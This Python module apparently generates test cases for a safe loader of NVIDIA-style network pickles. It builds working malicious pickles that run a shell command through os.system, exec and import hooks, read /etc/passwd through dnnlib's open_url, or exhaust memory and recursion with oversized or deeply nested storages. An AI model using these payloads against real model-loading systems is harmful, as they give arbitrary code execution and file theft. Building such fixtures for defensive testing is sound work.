"""Malicious pickles by the layout of NVIDIA's networks (torch_utils/persistence.py)."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable, Iterator

__all__ = ["networks"]

_RECONSTRUCT = b"ctorch_utils.persistence\n_reconstruct_persistent_obj\n"
_LOAD = b"ctorch.storage\n_load_from_bytes\n"
_SCALAR, _DTYPE = b"cnumpy.core.multiarray\nscalar\n", b"cnumpy\ndtype\n"
_ARRAY = b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R"


def networks(said: str, calls: Callable[[str], list[bytes]]) -> Iterator[tuple[str, bytes]]:
    """Each one's name and content. said: what a shell is asked; calls: opcodes that call a name."""
    source = f"import os\nos.system({said!r})\n"
    system = calls("os.system")
    double = _DTYPE + _plain("f8") + b"\x89\x88\x87R"
    inner = _LOAD + b"B" + _row(_number()) + b"\x85R"
    many = b"(" + 20_000 * inner + b"l"
    short, objects = _SCALAR + double + b"C\x03abc\x86R", _DTYPE + _plain("O8") + b"\x85R"
    called = _SCALAR + system[0] + b"C\x01a\x86R"
    parts = {
        "source": _network(source, b"}"),
        "source of a module": _network(source, _state(b"(}", _plain("_modules"))),
        "state that calls": _network(source, system[0]),
        "state by NEWOBJ": _network(source, system[4]),
        "state by INST": _network(source, b"(" + system[2].removeprefix(b"(") + b"0}"),
        "source that calls": _network(system[0], b"}"),
        "source as a function": _network(b"cbuiltins\nexec\n", b"}"),
        "name that calls": _network(source, b"}", name=system[1]),
        "hook": _network(source, b"}", kind="hook"),
        "state set by BUILD": _network(source, b"}") + b"ctorch_utils.persistence\nx\nb",
        "class by its name": b"ctraining.networks\nGenerator\n)\x81",
        "source without a class": _RECONSTRUCT + _plain({"module_src": source}) + b"\x85R",
        "no arguments": _RECONSTRUCT + b")R",
        "import hook": b"ctorch_utils.persistence\nimport_hook\n" + _plain(source) + b"\x85R",
        "source run by its reader": b"ctorch_utils.persistence\n_src_to_module\n"
        + _plain(source) + b"\x85R",
        "EasyDict with a state": b"cdnnlib.util\nEasyDict\n)\x81" + system[0] + b"b",
        "dnnlib's call": b"cdnnlib.util\ncall_func_by_name\n" + _plain(("os.system",)) + b"R",
        "dnnlib's fetch": b"cdnnlib.util\nopen_url\n" + _plain(("file:///etc/passwd",)) + b"R",
        "TensorFlow's network": b"cdnnlib.tflib.network\nNetwork\n)\x81" + b"}b",
        "storage that runs": _network(source, _weight(_row(system[0] + b"."))),
        "storage in a storage": _network(source, _weight(_row(inner + b"."))),
        "storage that is a network": _network(source, _weight(_row(_network(source, b"}") + b"."))),
        "storage of no torch": _network(source, _weight(_sized(system[0] + b"."))),
        "storage cut short": _network(source, _weight(_row(_number(), 2**40))),
        "storage of less than nothing": _network(source, _weight(_row(_number(), -1))),
        "storages without an end": _network(source, _state(many, _plain("a"))),
        "array of objects": _network(source, _state(objects, _plain("a"))),
        "number of no type": _network(source, _state(called, _plain("a"))),
        "number too long": _network(source, _state(short, _plain("a"))),
        "array too large": _network(source, _state(
            _ARRAY + b"(K\x01" + _plain((2**40, 2**40)) + double + b"\x89C\x00tb", _plain("a"))),
        "array of an array": _network(source, _state(
            _ARRAY + b"(K\x01K\x01\x85" + _ARRAY + b"\x89C\x08aaaaaaaatb", _plain("a"))),
        "network in itself": b"}q\x00" + _plain("state") + b"h\x00s" + _RECONSTRUCT + b"h\x00\x85R",
        "network without tensors": _network(source, _state(_network(source, b"}"), _plain("a"))),
    }  # fmt: skip
    for name, body in parts.items():
        yield f"nvidia: {name}", b"\x80\x03}" + _plain("G_ema") + body + b"s."
    deep = b"}"
    for _ in range(200):
        deep = _network("", _state(deep, _plain("_modules")))
    yield "nvidia: networks in networks", b"\x80\x03}" + _plain("G_ema") + deep + b"s."
    yield "nvidia: no G_ema", b"\x80\x03}" + _plain("G") + _network(source, b"}") + b"s."
    yield "nvidia: not the first pickle", b"\x80\x03}." + parts["source"] + b"."


def _plain(value: object) -> bytes:
    """The opcodes of a plain value, which remembers nothing."""
    if isinstance(value, str):
        return b"X" + _sized(value.encode())
    if isinstance(value, tuple):
        return b"(" + b"".join(map(_plain, value)) + b"t"
    if isinstance(value, dict):
        return b"}(" + b"".join(_plain(k) + _plain(v) for k, v in value.items()) + b"u"
    return pickle.dumps(value, 2)[2:-1]


def _sized(content: bytes) -> bytes:
    return struct.pack("<I", len(content)) + content


def _network(source: str | bytes, state: bytes, name: bytes = b"", kind: str = "class") -> bytes:
    """A call of `_reconstruct_persistent_obj`; source and state may be opcodes of anything."""
    source = _plain(source) if isinstance(source, str) else source
    parts = (_plain("type"), _plain(kind), _plain("version"), b"K\x06", _plain("module_src"))
    rest = (source, _plain("class_name"), name or _plain("Generator"), _plain("state"), state)
    return _RECONSTRUCT + b"}(" + b"".join((*parts, *rest)) + b"u\x85R"


def _state(value: bytes, key: bytes) -> bytes:
    """{key: value} of opcodes."""
    return b"}" + key + value + b"s"


def _number() -> bytes:
    """A row's fourth pickle: a storage of four numbers."""
    return (
        b"\x80\x02("
        + _plain("storage")
        + b"ctorch\nFloatStorage\n"
        + _plain("0")
        + _plain("cpu")
        + b"K\x04NtQ."
    )


def _row(fourth: bytes, count: int = 4) -> bytes:
    """What torch.save wrote before 1.6, with its length before it."""
    first = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True, "type_sizes": {}})
    head = b"".join(pickle.dumps(each, 2) for each in first)
    end = pickle.dumps(["0"], 2) + struct.pack("<q", count) + bytes(16)
    return _sized(head + fourth + end)


def _weight(packed: bytes) -> bytes:
    """A state with one tensor of four numbers, whose storage is this string of bytes."""
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n(" + _LOAD + b"B" + packed + b"\x85R"
    tensor += b"K\x00K\x04\x85K\x01\x85\x89}tR"
    return _state(_state(tensor, _plain("w")), _plain("_parameters"))
